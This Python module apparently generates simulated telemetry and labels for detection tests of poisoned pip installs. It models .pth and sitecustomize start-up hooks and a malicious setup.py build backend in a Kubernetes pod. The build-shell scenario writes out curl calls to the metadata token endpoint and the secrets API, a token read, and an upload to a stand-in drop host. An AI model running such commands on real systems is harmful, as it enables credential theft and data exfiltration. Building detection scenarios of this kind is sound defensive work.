"""Attacks whose code runs by itself: at the next interpreter's start, or while pip builds."""

from __future__ import annotations

from eightysix.lab.generate.audit import Request
from eightysix.lab.generate.cluster import SITE_PACKAGES
from eightysix.lab.generate.ids import name_id
from eightysix.lab.generate.label import Label, attack
from eightysix.lab.generate.programs import (
    DROP,
    METADATA,
    Wheel,
    api_request,
    boot_python,
    call,
    install,
    pip_command,
)
from eightysix.lab.generate.scenarios.cast import (
    FAST,
    MANAGED_IDENTITY,
    SERVER,
    SERVICE_ACCOUNT,
    STOLEN_SECRET,
    floor,
    inference,
    stages,
    start_server,
    steal,
)
from eightysix.lab.generate.scene import TOKEN_FOLDER, Process, Scene, Streams
from eightysix.lab.generate.sensor import Stack
from eightysix.lab.generate.settings import AS_RECORDED, FULL, KERNEL_AND_AUDIT, KERNEL_AND_SENSOR, Setting

__all__: list[str] = []

_LANDS = 900.0
_IDENTITIES = (MANAGED_IDENTITY, SERVICE_ACCOUNT, STOLEN_SECRET)
_IN_PROCESS = f"{SITE_PACKAGES}/pip/_vendor/pyproject_hooks/_in_process/_in_process.py"


def _server(setting: Setting) -> tuple[Scene, Process]:
    scene = Scene(setting)
    container = inference(scene)
    server = scene.entrypoint(0.31, container, "/opt/venv/bin/python", "/app/server.py")
    start_server(server, 0.31)
    return scene, server


def _label(
    setting: Setting,
    robbed: Process,
    rule: str,
    telling: str,
    twin: str,
    leaves_s: float,
    identities: tuple[str, ...] = _IDENTITIES,
) -> Label:
    return Label(
        malicious=True,
        at_least=floor(setting),
        at_most="contain",
        telling=telling,
        twin=twin,
        stages=stages(setting, kernel_sees_run=True),
        rules=(rule,),
        identities=identities,
        t0_s=_LANDS,
        leaves_s=leaves_s,
        pod_uid=robbed.container.pod.uid,
    )


def _hook(setting: Setting, wheel: Wheel, hook: Stack, start: str) -> tuple[Streams, Label]:
    """The server updates a plug-in, and 40 s later starts an interpreter for something else: the hook runs first."""
    scene, server = _server(setting)
    server.sense_child(_LANDS - 0.01, ("/opt/venv/bin/pip", "install", "-q", wheel.name), SERVER)
    pip = server.exec(_LANDS, "/opt/venv/bin/python3", pip_command(wheel.name))
    install(pip, _LANDS, [wheel])
    server.sense_child(_LANDS + 39.99, ("/opt/venv/bin/python", *start.split()), SERVER)
    child = server.exec(_LANDS + 40.0, "/opt/venv/bin/python", start)
    child.sense_start(_LANDS + 40.04, ["/opt/venv/bin/python", *start.split()])
    child.sense_import(_LANDS + 40.05, f"{wheel.module}._boot", hook)
    steal(child, _LANDS + 40.0, hook, FAST)
    child.exit(_LANDS + 40.0 + FAST.leave + 0.3)
    label = _label(
        setting,
        child,
        "startup-hook",
        "the interpreter's start-up file that asks was written by the install a moment before",
        "editable-install",
        _LANDS + 40.0 + FAST.leave,
    )
    return scene.streams(), label


@attack("hook-pth", FULL, KERNEL_AND_AUDIT, KERNEL_AND_SENSOR, AS_RECORDED)
def hook_pth(setting: Setting) -> tuple[Streams, Label]:
    """An install drops `aaa_torch_perf.pth`; the next interpreter of the pod runs it before anything else."""
    wheel = Wheel("torch-perf-pth", "0.9.1", ("torch_perf_pth/_boot.py", "aaa_torch_perf.pth"))
    hook = Stack(("torch-perf-pth",), at_import=f"pth:{SITE_PACKAGES}/aaa_torch_perf.pth", dynamic=True)
    return _hook(setting, wheel, hook, "/app/warmup.py --model resnet")


@attack("hook-sitecustomize", FULL, KERNEL_AND_AUDIT)
def hook_sitecustomize(setting: Setting) -> tuple[Streams, Label]:
    """The same with a `sitecustomize.py` at the top of site-packages."""
    wheel = Wheel("torch-perf-site", "0.2.0", ("torch_perf_site/_boot.py", "sitecustomize.py"))
    hook = Stack(("torch-perf-site",), at_import="torch-perf-site")
    return _hook(setting, wheel, hook, "/app/warmup.py --model resnet")


@attack("hook-pth-session", FULL, KERNEL_AND_AUDIT, AS_RECORDED)
def hook_pth_session(setting: Setting) -> tuple[Streams, Label]:
    """The same through `kubectl exec`: pip in one session, an interpreter in the next."""
    scene, server = _server(setting)
    wheel = Wheel("torch-perf-pth", "0.9.1", ("torch_perf_pth/_boot.py", "aaa_torch_perf.pth"))
    hook = Stack(("torch-perf-pth",), at_import=f"pth:{SITE_PACKAGES}/aaa_torch_perf.pth", dynamic=True)
    pip = scene.session(_LANDS, server.container, "/opt/venv/bin/python3", pip_command(wheel.name))
    install(pip, _LANDS, [wheel])
    child = scene.session(_LANDS + 3.0, server.container, "/opt/venv/bin/python", "-c pass")
    child.sense_start(_LANDS + 3.04, ["/opt/venv/bin/python", "-c", "pass"])
    child.sense_import(_LANDS + 3.05, "torch_perf_pth._boot", hook)
    steal(child, _LANDS + 3.0, hook, FAST)
    child.exit(_LANDS + 3.0 + FAST.leave + 0.3)
    telling = "the .pth file that asks was written by the install a moment before"
    return scene.streams(), _label(
        setting, child, "startup-hook", telling, "editable-install", _LANDS + 3.0 + FAST.leave
    )


def _build(server: Process, package: str) -> tuple[Process, Process]:
    """pip builds a source distribution: an environment for the build, then the backend, whose hook is the package's own code."""
    pip = server.exec(_LANDS, "/opt/venv/bin/python3", pip_command(package))
    boot_python(pip, _LANDS, ["/opt/venv/bin/python3", "/opt/venv/bin/pip", "install", "-q", package])
    folder = f"/tmp/pip-install-{name_id(8, 'sdist', package)}/{package}"
    environment = f"/tmp/pip-build-env-{name_id(8, 'environment', package)}/overlay"
    pip.connect(
        _LANDS + 1.4, "203.0.113.30", 443, by=Stack(("pip", "app:/opt/venv/bin/pip")), host="pypi.org"
    )
    pip.write(_LANDS + 1.5, f"/tmp/pip-unpack-{name_id(8, 'unpack', package)}/{package}-1.0.2.tar.gz")
    pip.write(_LANDS + 1.55, f"{folder}/setup.py")
    runner = pip.exec(
        _LANDS + 1.7,
        "/opt/venv/bin/python3",
        f"{SITE_PACKAGES}/pip/__pip-runner__.py install --ignore-installed --no-user --prefix {environment} "
        '-q -- "setuptools>=61" wheel',
    )
    install(
        runner,
        _LANDS + 1.7,
        [Wheel("setuptools", "80.9.0")],
        site=f"{environment}/lib/python3.11/site-packages",
        module=True,
    )
    backend = pip.exec(
        _LANDS + 4.1,
        "/opt/venv/bin/python3",
        f"{_IN_PROCESS} build_wheel /tmp/tmp{name_id(8, 'hook', package)}",
        cwd=folder,
    )
    backend.sense_start(_LANDS + 4.14, ["/opt/venv/bin/python3", _IN_PROCESS, "build_wheel"])
    return pip, backend


@attack("build-backend", FULL, KERNEL_AND_AUDIT, AS_RECORDED)
def build_backend(setting: Setting) -> tuple[Streams, Label]:
    """`setup.py` of a source distribution takes the credentials while pip builds it: nobody needs to import anything."""
    scene, server = _server(setting)
    pip, backend = _build(server, "torch-perf-build")
    steal(backend, _LANDS + 4.1, Stack(("app:setup.py", "setuptools", "pip")), FAST)
    backend.exit(_LANDS + 9.4)
    pip.exit(_LANDS + 10.0)
    telling = "who asks is a descendant of pip"
    return scene.streams(), _label(
        setting, backend, "poisoned-install", telling, "notebook-rebuild", _LANDS + 4.1 + FAST.leave
    )


@attack("build-shell", FULL, KERNEL_AND_AUDIT)
def build_shell(setting: Setting) -> tuple[Streams, Label]:
    """The build hook leaves the work to curl and cat: each step is a process of its own."""
    scene, server = _server(setting)
    pip, backend = _build(server, "torch-perf-build")
    shell = backend.exec(_LANDS + 7.0, "/bin/sh", '-c "sh /tmp/.b 2>/dev/null"')
    identity = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
    curl = shell.exec(_LANDS + 7.2, "/usr/bin/curl", f"-s -H Metadata:true {identity}")
    call(curl, _LANDS + 7.23, METADATA, None)
    curl.exit(_LANDS + 7.3)
    cat = shell.exec(_LANDS + 7.6, "/usr/bin/cat", f"{TOKEN_FOLDER}/token")
    cat.read(_LANDS + 7.601, f"{TOKEN_FOLDER}/token")
    cat.exit(_LANDS + 7.603)
    secrets = "https://kubernetes.default.svc/api/v1/namespaces/ml/secrets"
    curl = shell.exec(_LANDS + 7.9, "/usr/bin/curl", f"-sk -K - {secrets}")
    api_request(curl, _LANDS + 7.93, Request("list", "secrets", "ml", user_agent="curl/7.88.1"), None)
    curl.exit(_LANDS + 8.0)
    curl = shell.exec(_LANDS + 8.6, "/usr/bin/curl", f"-s --data-binary @- https://{DROP.host}/v1/collect")
    call(curl, _LANDS + 8.63, DROP, None)
    curl.exit(_LANDS + 8.7)
    shell.exit(_LANDS + 8.9)
    backend.exit(_LANDS + 9.0)
    pip.exit(_LANDS + 10.0)
    telling = "curl and cat are descendants of pip"
    return scene.streams(), _label(
        setting, shell, "poisoned-install", telling, "exec-debugging", _LANDS + 8.63, _IDENTITIES[:2]
    )
